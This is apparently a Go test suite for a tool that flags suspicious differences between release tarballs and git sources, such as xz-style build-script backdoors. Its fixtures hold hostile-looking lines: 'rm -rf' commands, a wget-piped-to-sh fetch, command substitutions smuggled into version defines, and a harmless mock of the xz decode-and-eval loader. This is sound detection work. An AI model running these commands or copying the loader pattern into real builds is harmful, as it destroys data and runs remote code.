package autotools

import (
	"bytes"
	"slices"
	"strings"
	"testing"
	"time"
)

// The fixtures below are synthetic: they reproduce the shapes seen in real
// releases (xz 5.4.1, curl 7.88.1) without copying any of their files.

// TestNameSnapshotPerOrigin: a serial above the known ones is judged against
// the newest source of that macro, not the newest package in the database.
func TestNameSnapshotPerOrigin(t *testing.T) {
	db := NewM4DB()
	db.Snapshot = time.Date(2023, 2, 9, 0, 0, 0, 0, time.UTC)
	// An old gettext package provides the macro; a new gnulib snapshot
	// provides other files only.
	db.AddFile("intlmacro.m4", []byte(m4Named("intlmacro.m4", 71, "")), "gettext 0.21")
	db.AddFile("other.m4", []byte(m4Named("other.m4", 3, "")), "gnulib 20230209")
	db.SetOriginSnapshot("gettext 0.21", time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC))
	db.SetOriginSnapshot("gnulib 20230209", time.Date(2023, 2, 9, 0, 0, 0, 0, time.UTC))

	if got := db.NameSnapshot("m4/intlmacro.m4"); !got.Equal(time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)) {
		t.Errorf("NameSnapshot(intlmacro.m4) = %v, want 2020-01-01", got)
	}
	if got := db.NameSnapshot("unknown.m4"); !got.IsZero() {
		t.Errorf("NameSnapshot(unknown) = %v, want zero", got)
	}
	// A release from January 2023 with the next gettext's macro (serial 72).
	ctx := &Context{DB: db, TagTime: time.Date(2023, 1, 11, 0, 0, 0, 0, time.UTC)}
	r := Classify(tarOnly("m4/intlmacro.m4", m4Named("intlmacro.m4", 72, "  newer=1\n")), ctx)
	if r.Class != ClassM4SerialBump || r.Severity != SevMedium || !strings.Contains(r.Reason, "m4db build") {
		t.Fatalf("newer gettext macro: %s/%s (%s), want m4-serial-bump/medium with a hint", r.Class, r.Severity, r.Reason)
	}
	// Once a source of that macro is as new as the release, it is high.
	db.AddFile("intlmacro.m4", []byte(m4Named("intlmacro.m4", 71, "")), "gnulib@abc")
	db.SetOriginSnapshot("gnulib@abc", time.Date(2024, 6, 1, 0, 0, 0, 0, time.UTC))
	r = Classify(tarOnly("m4/intlmacro.m4", m4Named("intlmacro.m4", 72, "  newer=1\n")), ctx)
	if r.Severity != SevHigh || !strings.Contains(r.Reason, "2024-06-01") {
		t.Fatalf("with a newer source: %s/%s (%s), want high naming the source date", r.Class, r.Severity, r.Reason)
	}

	// Origin snapshots survive Save/Load and Merge.
	var buf bytes.Buffer
	if err := db.Save(&buf); err != nil {
		t.Fatal(err)
	}
	loaded, err := LoadM4DB(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if got := loaded.OriginSnapshot("gettext 0.21"); !got.Equal(time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)) {
		t.Errorf("loaded origin snapshot = %v", got)
	}
	merged := MergeM4DB(NewM4DB(), loaded)
	if got := merged.NameSnapshot("intlmacro.m4"); !got.Equal(time.Date(2024, 6, 1, 0, 0, 0, 0, time.UTC)) {
		t.Errorf("merged NameSnapshot = %v", got)
	}
	// Without any dated origin the database snapshot is used.
	plain := NewM4DB()
	plain.Snapshot = time.Date(2022, 5, 5, 0, 0, 0, 0, time.UTC)
	plain.AddFile("x.m4", []byte("# serial 1\n"), "dir:local")
	if got := plain.NameSnapshot("x.m4"); !got.Equal(plain.Snapshot) {
		t.Errorf("fallback NameSnapshot = %v", got)
	}
	plain.SetOriginSnapshot("dir:local", time.Time{})
}

func m4Named(name string, serial int, extra string) string {
	return strings.Replace(m4Version(3, extra), "build-to-host.m4 serial 3", name+" serial "+itoa(serial), 1)
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b []byte
	for ; n > 0; n /= 10 {
		b = append([]byte{byte('0' + n%10)}, b...)
	}
	return string(b)
}

// TestStampOnlyRealShapes covers the release stamping seen in curl: man page
// titles rewritten with the release version and date plus a blank line,
// version headers losing -DEV and [unreleased], a version macro replaced by
// the quoted version; and attempts to hide code behind a version bump.
func TestStampOnlyRealShapes(t *testing.T) {
	const ver = "3.14.2"
	manGit := ".\\\" comment\n.TH foo_init 3 \"4 March 2002\" \"libfoo 3.1.1\" \"libfoo Manual\"\n.SH NAME\nfoo_init - start\n"
	manTar := ".\\\" comment\n.TH foo_init 3 \"January 02, 2024\" \"libfoo 3.14.2\" \"libfoo Manual\"\n\n.SH NAME\nfoo_init - start\n"
	hdrGit := "#define LIBFOO_VERSION \"3.14.2-DEV\"\n#define LIBFOO_VERSION_NUM 0x030e01\n#define LIBFOO_TIMESTAMP \"[unreleased]\"\nint x;\n"
	hdrTar := "#define LIBFOO_VERSION \"3.14.2\"\n#define LIBFOO_VERSION_NUM 0x030e02\n#define LIBFOO_TIMESTAMP \"2024-01-02\"\nint x;\n"
	tests := []struct {
		name, git, tar string
		want           bool
	}{
		{"man title and blank line", manGit, manTar, true},
		{"man title, version inserted", ".TH foo 3 \"6 Aug 2018\" \"libfoo\" \"libfoo Manual\"\n", ".TH foo 3 \"January 02, 2024\" \"libfoo 3.14.2\" \"libfoo Manual\"\n\n", true},
		{"version header", hdrGit, hdrTar, true},
		{"unreleased placeholder", "version: UNRELEASED\n", "version: 3.14.2\n", true},
		{"version macro replaced by the version", "#define TOOL_VERSION LIBFOO_VERSION\n", "#define TOOL_VERSION \"3.14.2\"\n", true},
		{"dev suffix on a date", "date 2024-01-01-dev\n", "date 2024-01-02\n", true},
		{"blank line removed", "a\n\nb 3.1\n", "a\nb 3.14.2\n", true},
		// Tight: any other token difference is not stamping.
		{"version bump hides code", "#define V \"3.14.2-DEV\"\n", "#define V \"3.14.2\" ; system(\"x\")\n", false},
		{"man title plus changed text", manGit, strings.Replace(manTar, "start", "start evil", 1), false},
		{"wrong hex", hdrGit, strings.Replace(hdrTar, "0x030e02", "0x030e05", 1), false},
		{"macro replaced by other macro", "#define TOOL_VERSION LIBFOO_VERSION\n", "#define TOOL_VERSION OTHER_VERSION\n", false},
		{"macro replaced by unquoted code", "#define TOOL_VERSION LIBFOO_VERSION\n", "#define TOOL_VERSION evil()\n", false},
		{"added code line", manGit, manTar + "rm -rf $HOME\n", false},
		{"inserted token not the version", ".TH foo 3 \"x\" \"libfoo\"\n", ".TH foo 3 \"x\" \"libfoo 9.9.9\"\n", false},
		{"blank line after continuation", "cmd \\\n\nnext 3.1\n", "cmd \\\nnext 3.14.2\n", false},
		{"only blank lines", "a\n", "a\n\n", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, got := stampOnly([]byte(tt.git), []byte(tt.tar), ver); got != tt.want {
				t.Errorf("stampOnly = %v, want %v", got, tt.want)
			}
		})
	}
	// Through Classify: a version header stays low, not source-modified.
	r := Classify(differs("include/foo/foover.h", hdrGit, hdrTar), &Context{Version: ver, DB: NewM4DB()})
	if r.Class != ClassReleaseStamped || r.Severity != SevLow {
		t.Errorf("version header: %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	r = Classify(differs("include/foo/foover.h", hdrGit, strings.Replace(hdrTar, "int x;", "int x = evil();", 1)), &Context{Version: ver, DB: NewM4DB()})
	if r.Class != ClassSourceModified || r.Severity != SevHigh {
		t.Errorf("version header with code: %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
}

// TestStampOnlyRealignedDefines covers libssh2's maketgz: sed rewrites the
// version defines with one blank where the tag aligns them in a column, drops
// "_DEV" and replaces the "DEV" timestamp with date(1)'s output. The value of
// each define is still compared: a changed number, extra code or a
// realigned define that does not name a version is not stamping.
func TestStampOnlyRealignedDefines(t *testing.T) {
	const ver = "1.11.1"
	git := "#define LIBSSH2_VERSION                             \"1.11.1_DEV\"\n" +
		"#define LIBSSH2_VERSION_MAJOR                       1\n" +
		"#define LIBSSH2_VERSION_NUM                         0x010b01\n" +
		"#define LIBSSH2_TIMESTAMP \"DEV\"\n" +
		"#define LIBSSH2_SSH_BANNER                  \"SSH-2.0-libssh2_\" LIBSSH2_VERSION\n"
	tar := "#define LIBSSH2_VERSION \"1.11.1\"\n" +
		"#define LIBSSH2_VERSION_MAJOR 1\n" +
		"#define LIBSSH2_VERSION_NUM 0x010b01\n" +
		"#define LIBSSH2_TIMESTAMP \"Wed Oct 16 08:03:21 UTC 2024\"\n" +
		"#define LIBSSH2_SSH_BANNER                  \"SSH-2.0-libssh2_\" LIBSSH2_VERSION\n"
	tests := []struct {
		name, tar string
		want      bool
	}{
		{"maketgz output", tar, true},
		{"major changed", strings.Replace(tar, "MAJOR 1", "MAJOR 2", 1), false},
		{"hex changed", strings.Replace(tar, "0x010b01", "0x010c01", 1), false},
		{"code after the timestamp", strings.Replace(tar, "UTC 2024\"", "UTC 2024\"; system(\"x\")", 1), false},
		{"code in the timestamp", strings.Replace(tar, "Wed Oct 16 08:03:21 UTC 2024", "$(id)", 1), false},
		{"realigned define not naming a version", strings.Replace(tar, "LIBSSH2_SSH_BANNER                  ", "LIBSSH2_SSH_BANNER ", 1), false},
		{"other define realigned and changed", tar + "#define LIBSSH2_FLAG 1\n", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, got := stampOnly([]byte(git), []byte(tt.tar), ver); got != tt.want {
				t.Errorf("stampOnly = %v, want %v", got, tt.want)
			}
		})
	}
	// A define that names no version keeps its alignment: blanks are not
	// normalised there.
	if _, ok := stampOnly([]byte("#define FLAG      1\n#define V \"1.0-DEV\"\n"), []byte("#define FLAG 1\n#define V \"1.11.1\"\n"), ver); ok {
		t.Error("realigned FLAG define accepted as stamping")
	}
	r := Classify(differs("include/libssh2.h", git, tar), &Context{Version: ver, DB: NewM4DB()})
	if r.Class != ClassReleaseStamped || r.Severity != SevLow {
		t.Errorf("libssh2.h: %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
	r = Classify(differs("include/libssh2.h", git, strings.Replace(tar, "0x010b01", "0x010001", 1)), &Context{Version: ver, DB: NewM4DB()})
	if r.Severity != SevHigh {
		t.Errorf("libssh2.h with a changed hex: %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
}

func TestVersionHex(t *testing.T) {
	for in, want := range map[string]string{"7.88.1": "075801", "1.2": "0102", "1.2.3.4": "01020304", "1": "", "1.2.x": "", "1.300.0": "", "1.2.3.4.5": ""} {
		if got := versionHex(in); got != want {
			t.Errorf("versionHex(%q) = %q, want %q", in, got, want)
		}
	}
}

const (
	poHeadGit = `# Translation of foo.
msgid ""
msgstr ""
"Project-Id-Version: foo 1.0\n"
"Report-Msgid-Bugs-To: old@example.org\n"
"POT-Creation-Date: 2018-04-29 18:19+0300\n"
"Last-Translator: Ann <ann@example.org>\n"
"Language: de\n"
"Content-Type: text/plain; charset=UTF-8\n"
"Plural-Forms: nplurals=2; plural=(n != 1);\n"

`
	poHeadTar = `# Translation of foo.
msgid ""
msgstr ""
"Project-Id-Version: foo 1.2\n"
"Report-Msgid-Bugs-To: new@example.org\n"
"POT-Creation-Date: 2024-01-11 19:01+0200\n"
"Language: de\n"
"Last-Translator: Ann <ann@example.org>\n"
"Content-Type: text/plain; charset=UTF-8\n"
"Plural-Forms: nplurals=2; plural=(n != 1);\n"

`
	poBodyGit = `#: src/main.c:63
#, c-format
msgid "%s: cannot open the file for reading because it is missing"
msgstr "%s: kann die Datei nicht zum Lesen öffnen, weil sie fehlt"

#: src/main.c:70
msgid "old message"
msgstr "alte Nachricht"

#: src/main.c:80
msgid "one file"
msgid_plural "%d files"
msgstr[0] "eine Datei"
msgstr[1] "%d Dateien"
`
	// msgmerge: references moved, strings re-wrapped, an entry made
	// obsolete, a new fuzzy entry carrying an old translation, a new
	// untranslated entry.
	poBodyTar = `#: src/main.c:77 src/util.c:12
#, c-format
msgid ""
"%s: cannot open the file for reading "
"because it is missing"
msgstr ""
"%s: kann die Datei nicht zum Lesen öffnen, "
"weil sie fehlt"

#: src/main.c:90
msgid "one file"
msgid_plural "%d files"
msgstr[0] "eine Datei"
msgstr[1] "%d Dateien"

#: src/main.c:95
#, fuzzy
#| msgid "old message"
msgid "older message"
msgstr "alte Nachricht"

#: src/main.c:99
msgid "brand new"
msgstr ""

#~ msgid "old message"
#~ msgstr "alte Nachricht"
`
)

func TestPOMsgmergeUpdates(t *testing.T) {
	git, tar := poHeadGit+poBodyGit, poHeadTar+poBodyTar
	u, ok := poMsgmergeOnly([]byte(git), []byte(tar))
	if !ok || u.added != 2 || u.dropped != 1 {
		t.Fatalf("msgmerge update: ok=%v %+v, want ok with 2 added, 1 dropped", ok, u)
	}
	bad := []struct{ name, tar string }{
		{"changed translation", strings.Replace(tar, "eine Datei", "keine Datei", 1)},
		{"changed re-wrapped translation", strings.Replace(tar, `"weil sie fehlt"`, `"weil sie weg ist"`, 1)},
		{"new used translation", strings.Replace(tar, "msgid \"brand new\"\nmsgstr \"\"", "msgid \"brand new\"\nmsgstr \"ganz neu\"", 1)},
		{"plural forms changed", strings.Replace(tar, "nplurals=2; plural=(n != 1)", "nplurals=2; plural=(n == 1)", 1)},
		{"charset changed", strings.Replace(tar, "charset=UTF-8", "charset=ISO-8859-1", 1)},
		{"not a catalog", "#!/bin/sh\nrm -rf /\n"},
		{"garbage keyword", tar + "\nmsgevil \"x\"\n"},
	}
	for _, b := range bad {
		if _, ok := poMsgmergeOnly([]byte(git), []byte(b.tar)); ok {
			t.Errorf("%s: accepted as a msgmerge update", b.name)
		}
	}
	for _, p := range []string{"po/de.po", "po4a/de.po"} {
		r := Classify(differs(p, git, tar), nil)
		if r.Class != ClassTranslation || r.Severity != SevLow || !strings.Contains(r.Reason, "2 new untranslated or fuzzy messages") {
			t.Errorf("%s: %s/%s (%s)", p, r.Class, r.Severity, r.Reason)
		}
	}
	r := Classify(differs("po/de.po", git, bad[0].tar), nil)
	if r.Severity != SevMedium {
		t.Errorf("changed translation: %s/%s (%s), want medium", r.Class, r.Severity, r.Reason)
	}
}

func TestGeneratedDocs(t *testing.T) {
	gitFiles := []string{"src/foo/foo.1", "src/scripts/foodiff.1", "doc/bar.8"}
	ctx := &Context{DB: NewM4DB(), InGit: func(p string) bool { return slices.Contains(gitFiles, p) }}
	rendered := func(name, sec string) string {
		up := strings.ToUpper(name)
		return up + "(" + sec + ")                        Foo Utils                        " + up + "(" + sec + ")\n\n\n\nNAME\n       " + name + " - do things\n\nSYNOPSIS\n       " + name + " [option]...\n"
	}
	po4aMan := "'\\\" t\n.\\\"\n.\\\" Author: A. Person\n.\\\"*******************************************************************\n.\\\"\n.\\\" This file was generated with po4a. Translate the source file.\n.\\\"\n.\\\"*******************************************************************\n.TH FOO 1 \"2024-01-02\" \"Foo\"\n"
	tests := []struct {
		name  string
		in    Input
		class string
		sev   Severity
		why   string
	}{
		{"text rendering", tarOnly("doc/man/txt/foo.txt", rendered("foo", "1")), ClassGenerated, SevInfo, "src/foo/foo.1"},
		{"text rendering, script page", tarOnly("doc/man/txt/foodiff.txt", rendered("foodiff", "1")), ClassGenerated, SevInfo, "src/scripts/foodiff.1"},
		{"text rendering, section 8", tarOnly("doc/txt/bar.txt", rendered("bar", "8")), ClassGenerated, SevInfo, "doc/bar.8"},
		{"po4a man page", tarOnly("po4a/man/de/foo.1", po4aMan), ClassGenerated, SevInfo, "po4a"},
		// Content signs are required, not paths.
		{"txt without a man header", tarOnly("doc/man/txt/foo.txt", "just some text\nNAME\n"), ClassOther, SevMedium, ""},
		{"txt of a page not in git", tarOnly("doc/man/txt/qux.txt", rendered("qux", "1")), ClassOther, SevMedium, ""},
		{"txt named after another page", tarOnly("doc/man/txt/evil.txt", rendered("foo", "1")), ClassOther, SevMedium, ""},
		{"po4a path without marker", tarOnly("po4a/man/de/foo.sh", "#!/bin/sh\necho hi\n"), ClassOther, SevHigh, "build or executable content"},
		{"po4a marker on a C file", tarOnly("src/evil.c", "/* This file was generated with po4a. */\nint x;\n"), ClassOther, SevMedium, ""},
		{"man page without stamp", tarOnly("docs/foo.1", ".\\\" comment\n.TH foo 1 \"February 19 2024\" \"foo 1.0\" \"Foo Manual\"\n.SH NAME\n"), ClassOther, SevLow, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Classify(tt.in, ctx)
			if r.Class != tt.class || r.Severity != tt.sev || !strings.Contains(r.Reason+" "+r.Generator, tt.why) {
				t.Fatalf("got %s/%s (%s; %s), want %s/%s mentioning %q", r.Class, r.Severity, r.Reason, r.Generator, tt.class, tt.sev, tt.why)
			}
		})
	}
	// GitByBase, when given, is used instead of probing.
	ctx2 := &Context{DB: NewM4DB(), GitByBase: func(b string) []string {
		if b == "foo.1" {
			return []string{"odd/place/foo.1"}
		}
		return nil
	}}
	if r := Classify(tarOnly("doc/man/txt/foo.txt", rendered("foo", "1")), ctx2); r.Class != ClassGenerated || !strings.Contains(r.Reason, "odd/place/foo.1") {
		t.Errorf("GitByBase: %s/%s (%s)", r.Class, r.Severity, r.Reason)
	}
}

func TestGeneratedChangeLogs(t *testing.T) {
	gitLog := "commit 0123456789abcdef0123456789abcdef01234567\nAuthor: A Person <a@example.org>\nDate:   2024-01-11 18:52:54 +0200\n\n    Bump version.\n"
	versioned := "    banner\n\n                                  Changelog\n\nVersion 3.14.2 (2 Jan 2024)\n\nA Person (2 Jan 2024)\n\n- release\n"
	ctx := &Context{Version: "3.14.2", DB: NewM4DB()}
	tests := []struct {
		name string
		in   Input
		want string
	}{
		{"git log ChangeLog", differs("ChangeLog", "See the git log.\n", gitLog), ClassChangeLog},
		{"versioned CHANGES", differs("CHANGES", "See the website.\n", versioned), ClassChangeLog},
		{"CHANGES of another version", differs("CHANGES", "See the website.\n", strings.Replace(versioned, "3.14.2", "3.14.1", 1)), ClassOther},
		{"git log without author", differs("ChangeLog", "x\n", "commit 0123456789abcdef0123456789abcdef01234567\nrm -rf /\n"), ClassOther},
	}
	for _, tt := range tests {
		if r := Classify(tt.in, ctx); r.Class != tt.want {
			t.Errorf("%s: %s/%s (%s), want %s", tt.name, r.Class, r.Severity, r.Reason, tt.want)
		}
	}
}

func TestNetworkFetchInGeneratedConfigure(t *testing.T) {
	head := "#! /bin/sh\n# Generated by GNU Autoconf 2.71 for foo 1.0.\n"
	ctx := &Context{DB: NewM4DB()}
	// A project that names curl in strings: no signal at all.
	r := Classify(tarOnly("configure", head+"PACKAGE_BUGREPORT='a suitable curl mailing list: https://example.org/mail/'\necho \"Report bugs to the curl list https://example.org/\"\n"), ctx)
	if len(r.Signals) != 0 || r.Severity != SevInfo {
		t.Errorf("curl in strings: %s/%s %+v", r.Class, r.Severity, r.Signals)
	}
	// A real fetch alone in a generated configure: informational.
	r = Classify(tarOnly("configure", head+"if test x = y; then\n  curl -sSfo conftest.out https://example.org/probe\nfi\n"), ctx)
	if r.Class != ClassGenerated || r.Severity != SevInfo || len(r.Signals) != 1 || r.Signals[0].Rule != RuleNetworkFetch || r.Signals[0].Severity != SevInfo {
		t.Errorf("fetch alone: %s/%s %+v", r.Class, r.Severity, r.Signals)
	}
	// With another signal it is not lowered.
	r = Classify(tarOnly("configure", head+"wget -q -O- https://example.org/x | sh\n"), ctx)
	if r.Severity != SevHigh || r.Class != ClassSuspicious || !slices.ContainsFunc(r.Signals, func(s Signal) bool { return s.Rule == RuleNetworkFetch && s.Severity == SevHigh }) {
		t.Errorf("fetch piped to sh: %s/%s %+v", r.Class, r.Severity, r.Signals)
	}
	// With another signal on another line it is not lowered.
	r = Classify(tarOnly("configure", head+"curl -o x https://example.org/x\nfoo_map='tr \"ab\" \"ba\"'\n"), ctx)
	if !slices.ContainsFunc(r.Signals, func(s Signal) bool { return s.Rule == RuleNetworkFetch && s.Severity == SevMedium }) {
		t.Errorf("fetch plus tr swap: %s/%s %+v", r.Class, r.Severity, r.Signals)
	}
	// In a hand-written script it stays medium.
	r = Classify(tarOnly("build-aux/fetch.sh", "#!/bin/sh\ncurl -o x https://example.org/x\n"), ctx)
	if !slices.ContainsFunc(r.Signals, func(s Signal) bool { return s.Rule == RuleNetworkFetch && s.Severity == SevMedium }) {
		t.Errorf("fetch in a script: %s/%s %+v", r.Class, r.Severity, r.Signals)
	}
}

// TestScanHitMakesClassSuspicious: every high scan rule (TC503-TC511) sets
// the class and names itself in the reason; m4 and binary-reference signals
// alone do not.
func TestScanHitMakesClassSuspicious(t *testing.T) {
	for _, r := range scanRules {
		if !isScanRule(r.id) || !strings.HasPrefix(r.id, "TC5") {
			t.Errorf("scan rule %s not recognised as a scan rule", r.id)
		}
	}
	for _, id := range []string{RuleBinaryReference, RuleM4SerialAbove, RuleM4UnknownBody, "TC101"} {
		if isScanRule(id) {
			t.Errorf("%s counted as a scan rule", id)
		}
	}
	head := "#! /bin/sh\n# Generated by GNU Autoconf 2.71 for foo 1.0.\n"
	res := Classify(tarOnly("configure", head+"fo_map='tr \"ab\" \"ba\"'\n"), &Context{DB: NewM4DB()})
	if res.Class != ClassSuspicious || res.Severity != SevHigh || !strings.Contains(res.Reason, "tr with swapped") || !strings.Contains(res.Reason, "GNU Autoconf") {
		t.Errorf("tr swap in configure: %s/%s (%s)", res.Class, res.Severity, res.Reason)
	}
	for _, s := range res.Signals {
		if strings.HasPrefix(s.Message, "configure:") {
			t.Errorf("signal message repeats the path: %q", s.Message)
		}
	}
}

// TestScanDataFlow: payload decoded into a variable on one line and run on
// another, a command string kept in a variable and eval'ed (the shape of the
// xz injection, with a harmless invented payload).
func TestScanDataFlow(t *testing.T) {
	script := `AC_DEFUN([FOO_INIT], [
  foo_hit=` + "`" + `grep -aErls "FOO-MARK" "$srcdir/tests/data" 2>/dev/null` + "`" + `
  foo_map='tr "\t \-_" " \t_\-"'
  foo_out=` + "`" + `eval $foo_map < "$foo_hit" | xz -d 2>/dev/null` + "`" + `
  AC_CONFIG_COMMANDS([foo], [eval "$foo_out" | $SHELL 2>/dev/null])
])
`
	sigs := ScanBuildScript("m4/foo.m4", []byte(script))
	rules := signalRules(sigs)
	for _, want := range []string{RuleGrepBinaryTree, RuleTrSwap, RuleDecodeToShell, RuleEvalAssembled} {
		if !slices.Contains(rules, want) {
			t.Errorf("signals %v lack %s", rules, want)
		}
	}
	for _, s := range sigs {
		if s.Rule == RuleDecodeToShell && (len(s.Evidence) < 2 || !strings.Contains(s.Evidence[0], "line 4") || !strings.Contains(s.Evidence[1], "line 5")) {
			t.Errorf("decode-to-shell evidence = %q, want the assignment and the use", s.Evidence)
		}
	}
	// Benign: a decompressed listing shown, a variable eval'ed that holds
	// no command.
	benign := "list=`xz -dc foo.tar.xz | tar tf -`\necho \"$list\"\nopts='--with-x'\neval set -- $opts\n"
	if got := signalRules(ScanBuildScript("x.sh", []byte(benign))); len(got) != 0 {
		t.Errorf("benign script: %v", got)
	}
}

func TestBinaryRefsIgnoreCatalogsAndComments(t *testing.T) {
	bins := []string{"po/de.gmo", "doc/manual.pdf", "tests/files/blob.xz"}
	ctx := &Context{DB: NewM4DB(), BinaryPaths: bins,
		IsBinaryInTarball: func(p string) bool { return slices.Contains(bins, p) }}
	m4 := "# serial 1\nAC_DEFUN([FOO_PO], [\n  dnl We need to process the po/ directory.\n  # also doc/ and tests/files/blob.xz\n  for f in po/*.po; do :; done\n  foo_dir=$srcdir/doc\n])\n"
	r := Classify(tarOnly("m4/foo-po.m4", m4), ctx)
	if slices.Contains(signalRules(r.Signals), RuleBinaryReference) {
		t.Errorf("catalog/doc directory or comment counted as a binary reference: %+v", r.Signals)
	}
	r = Classify(tarOnly("m4/foo-po.m4", m4+"foo_x=$srcdir/tests/files/blob.xz\n"), ctx)
	if !slices.Contains(signalRules(r.Signals), RuleBinaryReference) {
		t.Errorf("direct reference to binary test data missed: %+v", r.Signals)
	}
}
